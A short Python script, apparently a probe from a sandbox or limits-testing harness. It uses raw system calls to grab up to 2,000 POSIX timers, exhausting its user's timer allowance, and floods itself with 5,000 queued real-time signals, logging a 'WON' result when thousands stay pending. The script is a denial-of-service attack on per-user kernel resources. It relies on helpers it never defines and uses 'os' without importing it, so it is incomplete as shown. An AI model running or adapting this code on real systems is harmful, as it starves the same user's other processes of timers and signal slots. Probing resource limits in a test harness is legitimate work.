"""Takes all timers and pending signals that its user may have."""
import signal
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
LONG = ctypes.c_long


def call(x86, arm, *arguments):
    """Make a system call by its number on this machine."""
    number = x86 if os.uname().machine == "x86_64" else arm
    given = [value if isinstance(value, (bytes, ctypes.Array)) or value is None else LONG(value) for value in arguments]
    result = libc.syscall(LONG(number), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


for _ in range(2000):
    if attempt(call, 222, 107, 1, None, ctypes.create_string_buffer(4), won="take a user's timers") is None:
        break
signal.pthread_sigmask(signal.SIG_BLOCK, {40})
for _ in range(5000):
    os.kill(os.getpid(), 40)
queued = next(line for line in open("/proc/self/status") if line.startswith("SigQ"))
if int(queued.split()[1].partition("/")[0]) > 2000:
    LOOT.append("WON keep thousands of signals")
